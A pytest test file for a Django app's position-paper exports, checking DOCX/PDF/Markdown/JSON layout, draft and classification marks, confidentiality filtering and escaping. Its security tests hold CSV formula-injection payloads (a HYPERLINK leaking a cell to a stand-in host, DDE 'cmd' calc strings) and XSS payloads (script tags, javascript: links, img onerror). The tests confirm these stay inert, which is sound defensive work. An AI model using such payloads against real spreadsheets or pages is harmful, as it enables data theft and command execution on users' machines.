"""Every export opened and read back: DOCX, PDF, Markdown, JSON, inputs as CSV and XLSX."""

import csv
import html
import io
import json
import re
from datetime import UTC, datetime

import docx
import markdown as markdown_lib
import pytest
from django.core.management import call_command
from openpyxl import load_workbook
from pypdf import PdfReader

from consult.models import Input
from positions import exporting, review
from positions.exports import version_render
from positions.models import DraftVersion, PaperExport
from tests.factories import InputFactory
from tests.positions.paper_helpers import aggregate, inputs_for

pytestmark = pytest.mark.django_db


def _docx_text(content):
    document = docx.Document(io.BytesIO(content))
    body = "\n".join(p.text for p in document.paragraphs)
    tables = "\n".join(c.text for t in document.tables for r in t.rows for c in r.cells)
    header = document.sections[0].header.paragraphs[0].text
    headings = [p.text for p in document.paragraphs if p.style.name.startswith("Heading")]
    return body + "\n" + tables, header, headings


def test_docx_has_headings_draft_mark_and_source_references(world):
    cited = inputs_for(world)
    version = aggregate(world)

    text, header, headings = _docx_text(
        version_render(version, format="docx", language="en", audience="directorate")
    )

    assert "DRAFT — NOT FOR CIRCULATION" in header
    assert "Version 1" in header
    assert "DRAFT — NOT FOR CIRCULATION" in text
    assert any(h.endswith("Background") for h in headings)
    assert any(world.issue.title in h for h in headings)
    assert any(h.endswith("Annex: participants") for h in headings)
    assert f"[{cited[0].reference}" in text
    # paragraphs are numbered by their section as its heading reads: "1.1. ..." → "1.1 ¶2"
    assert "A ¶1" in text
    issue_heading = next(h for h in headings if world.issue.title in h)
    assert issue_heading.startswith(f"{world.issue.code}.")
    assert f"{world.issue.code} ¶2" in text
    # the lead-ins of an issue are a level of the outline, Word's navigation included
    assert f"{world.issue.code} ¶2 Pandangan bersama" in headings


def test_indonesian_headings_and_an_approved_version_without_the_mark(world):
    inputs_for(world)
    version = aggregate(world)
    review.version_transition(version=version, move="submit", actor=world.staff)
    review.version_transition(version=version, move="approve", actor=world.director)
    version.refresh_from_db()

    text, header, headings = _docx_text(
        version_render(version, format="docx", language="id", audience="directorate")
    )

    assert "NOT FOR CIRCULATION" not in text + header
    assert "TIDAK UNTUK" not in text + header
    assert any(h.endswith("Latar belakang") for h in headings)
    assert "Versi 1" in header


def test_circulation_names_only_public_inputs_and_counts_the_others(world):
    public = inputs_for(world, orgs=[world.ngo])[0]
    private = inputs_for(
        world,
        orgs=[world.ministry, world.partner],
        confidentiality=Input.Confidentiality.DIRECTORATE,
    )
    secret = InputFactory(
        session=world.session,
        issue=world.other_issue,
        organisation=world.ministry,
        text="A confidential remark nobody outside may read.",
        confidentiality=Input.Confidentiality.DIRECTORATE,
    )
    version = aggregate(world)

    content = version_render(version, format="md", language="en", audience="public").decode()

    assert public.reference in content
    assert all(i.reference not in content for i in [*private, secret])
    assert "other inputs not named" in content
    assert "confidential remark" not in content
    assert "Text withheld" in content
    data = json.loads(version_render(version, format="json", language="en", audience="public"))
    dumped = json.dumps(data)
    assert secret.reference not in dumped
    assert "confidential remark" not in dumped
    internal = version_render(version, format="md", language="en", audience="directorate")
    assert secret.reference in internal.decode()


def test_pdf_text_has_title_mark_and_references(world, tmp_path):
    cited = inputs_for(world)
    version = aggregate(world)

    content = version_render(version, format="pdf", language="en", audience="directorate")

    reader = PdfReader(io.BytesIO(content))
    first = reader.pages[0].extract_text()
    assert world.consultation.title in first
    assert "DRAFT — NOT FOR CIRCULATION" in first
    assert "Version 1" in first
    every = "\n".join(page.extract_text() for page in reader.pages)
    assert cited[0].reference in every
    assert "Consensus map" in every


def test_the_pdf_running_head_prints_the_title_as_written_and_draft_once(world):
    inputs_for(world)
    version = aggregate(world)
    version.paper.title = 'Posisi "GCM": hak-hak pekerja & keluarga </style>'
    version.paper.save()

    content = version_render(version, format="pdf", language="en", audience="directorate")

    reader = PdfReader(io.BytesIO(content))
    head = reader.pages[1].extract_text()
    assert "hak-hak pekerja & keluarga </style>" in head
    assert "u002D" not in head
    assert "Draft — DRAFT" not in head
    assert "DRAFT — NOT FOR CIRCULATION" in head


def test_json_has_sections_sources_and_key_points(world):
    cited = inputs_for(world)
    version = aggregate(world)

    data = json.loads(version_render(version, format="json", language="en", audience="directorate"))

    assert data["version"] == 1
    assert data["status"] == "draft"
    assert [s["kind"] for s in data["sections"]][0] == "background"
    point = data["aggregation"]["issues"][0]["key_points"][0]
    assert cited[0].reference in point["sources"]


def _filtered_inputs(world):
    concern = InputFactory(
        session=world.session,
        issue=world.issue,
        organisation=world.ngo,
        kind="concern",
        text='Biaya penempatan terlalu tinggi, kata "kami".',
    )
    InputFactory(
        session=world.session, issue=world.issue, organisation=world.ministry, kind="statement"
    )
    return concern


def test_inputs_csv_and_xlsx_round_trip_the_filtered_list(
    world, django_capture_on_commit_callbacks
):
    concern = _filtered_inputs(world)
    paper = aggregate(world).paper

    with django_capture_on_commit_callbacks(execute=True):
        as_csv = exporting.export_request(
            paper=paper, user=world.staff, format="csv", filters={"kind": "concern"}
        )
        as_xlsx = exporting.export_request(
            paper=paper, user=world.staff, format="xlsx", filters={"kind": "concern"}
        )

    for export in (as_csv, as_xlsx):
        export.refresh_from_db()
        assert export.status == PaperExport.Status.DONE, export.error
    rows = list(csv.DictReader(io.StringIO(as_csv.file.open("rb").read().decode("utf-8-sig"))))
    assert [(r["reference"], r["kind"], r["text"]) for r in rows] == [
        (concern.reference, "concern", concern.text)
    ]
    sheet = load_workbook(as_xlsx.file.open("rb")).active
    values = list(sheet.values)
    assert values[0][0] == "reference"
    assert [(v[0], v[5], v[-1]) for v in values[1:]] == [
        (concern.reference, "concern", concern.text)
    ]


def test_an_export_is_recorded_and_downloadable_again(
    world, login, django_capture_on_commit_callbacks
):
    inputs_for(world)
    aggregate(world)
    client = login(world.staff)

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            "/c/gcm-2017/paper/exports/",
            {"version": 1, "format": "pdf", "language": "en", "audience": "public"},
        )

    assert response.status_code == 302
    export = PaperExport.objects.get()
    assert (export.created_by, export.version.number, export.format, export.language) == (
        world.staff,
        1,
        "pdf",
        "en",
    )
    assert export.status == "done"
    assert export.progress == 100
    for _ in range(2):
        download = client.get(f"/c/gcm-2017/paper/exports/{export.pk}/download/")
        assert download.status_code == 200
        assert b"".join(download.streaming_content).startswith(b"%PDF")
    assert (
        login(world.partner_participant)
        .get(f"/c/gcm-2017/paper/exports/{export.pk}/download/")
        .status_code
        == 403
    )


@pytest.mark.parametrize("fmt", ["docx", "pdf", "md", "json"])
def test_the_export_paper_command_writes_each_format(world, tmp_path, fmt):
    inputs_for(world)
    aggregate(world)
    out = tmp_path / f"paper.{fmt}"

    call_command("export_paper", consultation="gcm-2017", format=fmt, language="en", out=str(out))

    content = out.read_bytes()
    assert content
    if fmt == "docx":
        assert "Version 1" in _docx_text(content)[1]
    elif fmt == "pdf":
        assert "Version 1" in PdfReader(io.BytesIO(content)).pages[0].extract_text()
    elif fmt == "md":
        assert content.decode().startswith(f"# {world.consultation.title}")
    else:
        assert json.loads(content)["version"] == 1


FORMULAS = [
    '=HYPERLINK("http://127.0.0.1/?leak="&B2,"Open source document")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
]


def test_participants_formulas_stay_text_in_the_csv_and_xlsx(
    world, django_capture_on_commit_callbacks
):
    for text in FORMULAS:
        InputFactory(session=world.session, issue=world.issue, organisation=world.ngo, text=text)
    paper = aggregate(world).paper

    with django_capture_on_commit_callbacks(execute=True):
        as_csv = exporting.export_request(paper=paper, user=world.staff, format="csv", filters={})
        as_xlsx = exporting.export_request(paper=paper, user=world.staff, format="xlsx", filters={})

    for export in (as_csv, as_xlsx):
        export.refresh_from_db()
    rows = list(csv.DictReader(io.StringIO(as_csv.file.open("rb").read().decode("utf-8-sig"))))
    assert sorted(r["text"] for r in rows) == sorted("'" + text for text in FORMULAS)
    workbook = load_workbook(as_xlsx.file.open("rb"))
    cells = [row[-1] for row in workbook.active.iter_rows(min_row=2)]
    assert sorted(cell.value for cell in cells) == sorted(FORMULAS)
    assert {cell.data_type for cell in cells} == {"s"}


INJECTION = (
    "Pemerintah harus melindungi pekerja migran <script>alert('x')</script> secara penuh "
    "**sekarang**.\n| a | b |\n|---|---|\n[buka dokumen](javascript:alert(document.cookie))"
)


def test_a_participants_markup_is_shown_as_written_in_every_export(world):
    inputs_for(world, text=INJECTION)
    version = aggregate(world)

    as_md = version_render(version, format="md", language="id", audience="directorate")
    data = json.loads(version_render(version, format="json", language="id", audience="directorate"))
    docx_text, _header, _headings = _docx_text(
        version_render(version, format="docx", language="id", audience="directorate")
    )
    rendered = markdown_lib.markdown(as_md.decode())

    assert "<script>" not in rendered
    assert "&lt;script&gt;" in rendered
    assert 'href="javascript:' not in rendered
    assert "<table" not in rendered
    assert "<strong>sekarang</strong>" not in rendered
    assert data["text_format"] == "plain"
    quoted = [p["text"] for s in data["sections"] for p in s["paragraphs"]]
    assert any("<script>alert('x')</script>" in text for text in quoted)
    assert "<script>alert('x')</script>" in docx_text


def _edited(world, text):
    """A version whose issue section the directorate rewrote as `text`."""
    from positions.editing import section_edit

    inputs_for(world)
    version = aggregate(world)
    return section_edit(
        paper=version.paper,
        base_number=version.number,
        key=f"issue:{world.issue.pk}",
        heading="Perlindungan",
        text=text,
        note="",
        user=world.staff,
    )


def test_an_ampersand_or_a_less_than_sign_reads_as_written_in_the_markdown():
    from positions.exports.markdown import markdown_literal

    text = "Sosbud & OINB: biaya < 5 juta, bukan &lt;b&gt; atau <b>tebal</b> & &#x3C;"
    literal = markdown_literal(text)
    rendered = markdown_lib.markdown(literal)

    assert "Sosbud & OINB: biaya < 5 juta" in literal
    assert "<b>" not in rendered
    # every character the participant typed is what a reader of the rendering sees
    assert html.unescape(re.sub(r"</?p>", "", rendered)) == text


def test_staff_markdown_in_an_edited_section_keeps_emphasis_but_not_html(world):
    edited = _edited(
        world, "Posisi kami **tegas**. <img src=x onerror=alert(1)> [x](javascript:alert(1))"
    )

    markdown = version_render(edited, format="md", language="id", audience="directorate")

    assert "**tegas**" in markdown.decode()
    assert "<img" not in markdown.decode()
    assert "javascript:" not in markdown.decode()


def test_the_directorates_markdown_is_formatted_in_the_docx_and_the_pdf(world):
    edited = _edited(
        world, "Perlindungan **sebelum keberangkatan** dan *saat kepulangan*.\n\n- satu\n- dua"
    )

    rendered = version_render(edited, format="docx", language="id", audience="directorate")
    document = docx.Document(io.BytesIO(rendered))
    runs = [run for p in document.paragraphs for run in p.runs]
    assert any(run.text == "sebelum keberangkatan" and run.bold for run in runs)
    assert any(run.text == "saat kepulangan" and run.italic for run in runs)
    assert not any("**" in p.text for p in document.paragraphs)
    items = [p for p in document.paragraphs if p.text.split(" [")[0].endswith(("satu", "dua"))]
    assert [p.style.name for p in items] == [
        "List Bullet",
        "List Bullet",
    ]


def test_the_docx_is_a_ministry_document_page_numbers_language_long_date_and_mark(world):
    inputs_for(world)
    version = aggregate(world)
    DraftVersion.objects.filter(pk=version.pk).update(
        created_at=datetime(2026, 12, 3, 10, 0, tzinfo=UTC)
    )

    rendered = version_render(
        version, format="docx", language="id", audience="directorate", classification="terbatas"
    )

    document = docx.Document(io.BytesIO(rendered))
    footer_xml = document.sections[0].footer.paragraphs[0]._p.xml
    assert "PAGE" in footer_xml
    assert "NUMPAGES" in footer_xml
    assert "TERBATAS" in document.sections[0].footer.paragraphs[0].text
    assert "TERBATAS" in document.sections[0].header.paragraphs[0].text
    assert any(p.text == "TERBATAS" for p in document.paragraphs[:4])  # on the title page
    assert 'w:val="id-ID"' in document.styles["Normal"].element.xml
    assert document.core_properties.language == "id-ID"
    assert any("3 Desember 2026" in p.text for p in document.paragraphs)
    english = docx.Document(
        io.BytesIO(version_render(version, format="docx", language="en", audience="directorate"))
    )
    assert any("3 December 2026" in p.text for p in english.paragraphs)
    assert "TERBATAS" not in english.sections[0].header.paragraphs[0].text


def test_the_exports_page_offers_a_classification_mark(world, login):
    inputs_for(world)
    version = aggregate(world)

    page = login(world.staff).post(
        f"/c/{world.consultation.slug}/paper/exports/",
        {
            "version": version.number,
            "format": "docx",
            "language": "id",
            "audience": "directorate",
            "classification": "rahasia",
        },
    )

    assert page.status_code == 302
    assert PaperExport.objects.get().classification == "rahasia"


def test_a_heading_in_the_directorates_markdown_is_a_bold_block_of_its_own():
    from positions.exports.inline import markdown_blocks

    blocks = markdown_blocks("#### Sikap Indonesia\n\nTeks **tebal** biasa.")

    assert [[(run.text, run.bold) for run in block.runs] for block in blocks] == [
        [("Sikap Indonesia", True)],
        [("Teks ", False), ("tebal", True), (" biasa.", False)],
    ]


def test_sources_not_named_are_counted_in_the_singular_and_without_other_when_none_is():
    from django.utils import translation

    from positions.exports.document import DocParagraph, labels, references_text

    with translation.override("en"):
        english = labels()
    with translation.override("id"):
        indonesian = labels()

    beside = DocParagraph("1 ¶1", "…", ["GCM-2017-0001"], unnamed=1)
    alone = DocParagraph("C ¶1", "…", [], unnamed=2)
    assert references_text(beside, english) == "[GCM-2017-0001; 1 other input not named]"
    assert references_text(alone, english) == "[2 inputs not named]"
    assert references_text(alone, indonesian) == "[2 masukan tidak disebutkan]"


def test_a_draft_copied_for_circulation_says_draft_and_not_that_it_must_not_circulate(world):
    inputs_for(world)
    version = aggregate(world)

    public = version_render(version, format="md", language="id", audience="public").decode()
    internal = version_render(version, format="md", language="id", audience="directorate")

    assert "**DRAF**" in public
    assert "TIDAK UNTUK DIEDARKAN" not in public
    assert "DRAF — TIDAK UNTUK DIEDARKAN" in internal.decode()
